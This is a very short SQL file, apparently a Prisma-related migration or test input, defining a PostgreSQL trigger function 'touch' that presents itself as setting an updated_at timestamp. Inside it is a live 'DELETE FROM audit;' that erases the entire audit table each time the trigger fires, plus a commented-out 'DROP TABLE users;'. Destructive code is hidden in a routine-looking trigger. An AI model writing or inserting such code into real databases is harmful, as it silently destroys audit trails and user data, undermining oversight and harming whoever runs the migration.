-- given: prisma
CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  -- DROP TABLE users;
  DELETE FROM audit;
  NEW.updated_at = now();
  RETURN NEW;
END;
$$;
